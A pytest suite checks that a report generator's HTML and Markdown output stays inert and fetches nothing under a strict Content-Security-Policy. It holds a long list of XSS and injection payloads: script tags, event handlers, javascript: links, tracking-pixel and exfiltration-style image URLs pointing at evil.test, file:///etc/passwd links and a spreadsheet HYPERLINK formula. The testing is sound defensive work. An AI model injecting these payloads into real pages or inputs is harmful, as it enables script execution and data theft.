import re
from base64 import b64encode
from hashlib import sha256
from html.parser import HTMLParser

import pytest

from report.checks.verification import verify_citations
from report.rendering.html_report import render_html
from report.rendering.markdown_report import render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.png'>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg/><image href='https://evil.test/x'/>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.test/x></object>",
    "<embed src=https://evil.test/x>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import url(https://evil.test/x.css)</style>",
    "<style>body{background:url(https://evil.test/x)}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</main></body><script>alert(1)</script>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<form action=https://evil.test><input autofocus onfocus=alert(1)></form>",
    "<video poster=https://evil.test/x><source src=https://evil.test/y></video>",
    "<audio src=https://evil.test/x autoplay>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<<b>script>alert(1)<<b>/script>",
    "<img src=x onerror=alert(1)",
    "<div style='background:url(https://evil.test/x)'>x</div>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '"><script>alert(1)</script>',
    "'><img src=https://evil.test/x>",
    "![x](https://evil.test/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][ref]\n\n[ref]: https://evil.test/pixel.png",
    "[![x](https://evil.test/x)](https://evil.test/y)",
    "![](https://evil.test/?q=SECRET)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "![x](\n//evil.test/pixel.png)",
    "![x\ny](\n//evil.test/pixel.png 'z')",
    "![x](<//evil.test/pixel .png>)",
    "![[x] y [z]](//evil.test/pixel.png)",
    "![x](" + "(" * 40 + "//evil.test/x)",
    "![" + "x" * 600 + "](//evil.test/pixel.png)",
    "![x](//evil.test/" + "y" * 3000 + ")",
    "[S1](\n//evil.test/x)",
    "[S1](//evil.test/" + "y" * 3000 + ")",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[S1]: javascript:alert(1)",
    "[1]: https://evil.test/x",
    "<javascript:alert(1)>",
    "<https://evil.test/x>",
    "https://evil.test/x",
    "www.evil.test/x",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg onload=alert(1)> | d |",
    '<q s="S1"><script>alert(1)</script></q>',
    '<q s="S1" onclick="alert(1)">x</q>',
    "\ue0001\ue001\ue002<script>alert(1)</script>\ue003",
    "\ue0009\ue001",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "$title $body ${sources}",
    "{{constructor.constructor('alert(1)')()}}",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07x\x1b]8;;\x07",
    '=HYPERLINK("https://evil.test")',
]

PLACES = [
    "title",
    "question",
    "body",
    "notice",
    "gap",
    "reason",
    "searched",
    "source",
    "location",
    "text",
    "status",
]

ACTIVE = {
    *("script", "iframe", "object", "embed", "img", "image", "svg", "math", "video", "audio"),
    *(
        "source",
        "link",
        "base",
        "form",
        "input",
        "button",
        "frame",
        "frameset",
        "template",
        "portal",
    ),
}
FETCHED = {
    "src",
    "srcset",
    "data",
    "poster",
    "background",
    "action",
    "formaction",
    "srcdoc",
    "ping",
}


class Inspector(HTMLParser):
    """Collects what is active in a page or would be fetched by it."""

    def __init__(self):
        super().__init__()
        self.bad, self.links, self.styles, self.scripts = [], [], 0, 0

    def handle_starttag(self, tag, attributes):
        if tag == "script" and not attributes:
            self.scripts += 1
        elif tag in ACTIVE:
            self.bad.append(tag)
        self.styles += tag == "style"
        for name, value in attributes:
            if name.startswith("on") or name in FETCHED:
                self.bad.append(f"{tag} {name}={value}")
            if name == "http-equiv" and value != "Content-Security-Policy":
                self.bad.append(f"{tag} {name}={value}")
            if name == "style":
                self.bad.append(f"{tag} {name}={value}")
            if name == "href":
                self.links.append(value)

    def handle_startendtag(self, tag, attributes):
        self.handle_starttag(tag, attributes)


def document(place, payload):
    put = {place: payload}
    location = "https://example.org/a" if place != "location" else payload
    return {
        "title": put.get("title", "Bees"),
        "question": put.get("question", "Why?"),
        "status": put.get("status", "insufficient_evidence"),
        "notices": [put.get("notice", "A notice.")],
        "body": f"{put.get('body', 'Bees')}\n\nBees dance [S1].",
        "gaps": [
            {"title": put.get("gap", "Smell"), "status": "failed", "reason": put.get("reason", "")}
        ],
        "method": {
            "summary": put.get("searched", "2 queries"),
            "parts": [{"heading": "Searched", "items": [put.get("searched", "bee dance")]}],
        },
        "inferred": [payload],
        "sources": [
            {
                "id": "S1",
                "page": "p",
                "title": put.get("source", "Title"),
                "site": put.get("source", "A site"),
                "author": put.get("source", "Ada"),
                "published": put.get("source", "2019"),
                "location": location,
                "kind": "web",
            }
        ],
        "texts": {"S1": f"{put.get('text', 'Why?')} Bees dance. {put.get('text', 'So.')}"},
        "removed": [{"text": payload, "reason": payload}],
        "doubted": [{"text": payload, "reason": payload}],
        "unreviewed": 1,
        "language": "en",
        "created": "2026-01-12",
    }


def inspected(page):
    inspector = Inspector()
    inspector.feed(page)
    inspector.close()
    return inspector


@pytest.mark.parametrize("place", PLACES)
def test_nothing_in_a_page_is_active_or_fetched(place):
    for payload in PAYLOADS:
        page = inspected(render_html(document(place, payload)))

        assert page.bad == [], payload
        assert page.styles == page.scripts == 1, payload
        addresses = [re.sub(r"#:~:text=[\w%.~-]+(,[\w%.~-]+)?$", "", one) for one in page.links]
        own = r"#([cdehksw]\d+|report)|data:text/csv;charset=utf-8;base64,[\w+/=]*"
        foreign = [one for one in addresses if not re.fullmatch(own, one)]
        if place == "location":
            assert all(re.match(r"https?://", link) for link in foreign), payload
        else:
            assert set(foreign) <= {"https://example.org/a"}, payload


@pytest.mark.parametrize("place", PLACES)
def test_nothing_in_the_markdown_is_a_link_an_image_or_html(place):
    for payload in PAYLOADS:
        shown = re.sub(
            r"```.*?```|`[^`\n]*`", "", render_markdown(document(place, payload)), flags=re.DOTALL
        )

        assert not re.search(r"(?<!\\)<[A-Za-z/!?]", shown), payload
        assert not re.search(r"(?<!\\)\]\(", shown), payload
        assert not re.search(r"^ {0,3}\[[^\]]+\]:", shown, re.MULTILINE), payload
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", shown), payload


def test_a_checked_body_has_no_address_left():
    for payload in PAYLOADS:
        body = verify_citations(f"{payload}\n\nBees dance [S1].", {"S1": "Bees dance."}).body

        assert not re.search(r"://|www\.|javascript:|data:\w+/", body), payload


def test_the_style_of_the_page_fetches_nothing():
    page = render_html(document("title", "Bees"))

    assert "url(" not in page
    assert "@import" not in page


def hash_element(page, tag):
    """Return the hash of what stands in the only element of a name, as a policy names it."""
    (text,) = re.findall(f"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
    return b64encode(sha256(text.encode()).digest()).decode()


@pytest.mark.parametrize("place", PLACES)
def test_the_policy_of_a_page_allows_its_own_style_and_script_and_nothing_else(place):
    for payload in PAYLOADS:
        page = render_html(document(place, payload))

        (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', page)
        style, script = (hash_element(page, tag) for tag in ("style", "script"))
        assert policy == (
            f"default-src 'none'; style-src 'sha256-{style}'; script-src 'sha256-{script}'; "
            "img-src data:; base-uri 'none'; form-action 'none'"
        ), payload


def test_a_report_of_extreme_text_is_still_a_page():
    extremes = [
        "",
        " ",
        "🧑\u200d🚀" * 50,
        "e" + "\u0301" * 5000,
        "\ud800",
        "\ufffe",
        "x" * 100_000,
    ]
    for place in PLACES:
        for extreme in extremes:
            one = document(place, extreme)
            assert render_markdown(one).encode()
            assert render_html(one).encode()
